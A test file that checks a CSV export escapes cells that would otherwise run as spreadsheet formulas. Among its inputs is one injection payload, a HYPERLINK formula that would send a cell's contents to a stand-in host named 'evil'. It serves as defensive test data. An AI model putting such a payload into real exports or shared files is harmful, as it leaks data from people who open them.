// The decisions register as CSV is safe to open in a spreadsheet: no cell is read as a formula.

import { describe, expect, it } from 'vitest';
import { csvField, formatDecisions } from '../../../src/render/decisions/format-decisions.js';

describe('CSV cells', () => {
  it.each([
    ['=HYPERLINK("http://evil/?x="&A1,"click")', `"'=HYPERLINK(""http://evil/?x=""&A1,""click"")"`],
    ['+1+2', `"'+1+2"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
  ])('%j starts as a formula: quoted, after an apostrophe', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it.each([
    ['took note of the report', 'took note of the report'],
    ['a, b', '"a, b"'],
    ['said "yes"', '"said ""yes"""'],
    ['1 = 1', '1 = 1'],
    ['e-mail', 'e-mail'],
  ])('%j is as RFC 4180 writes it', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it('applies to every field of the register', () => {
    const csv = formatDecisions([{ symbol: 'PC1', decisions: [{ id: 'I-1', item: 'I', subitem: null, paragraph: 3, text: '=1+1' }] }], 'csv');
    expect(csv.split('\r\n')[1]).toBe(`PC1,I-1,I,,3,"'=1+1"`);
  });
});
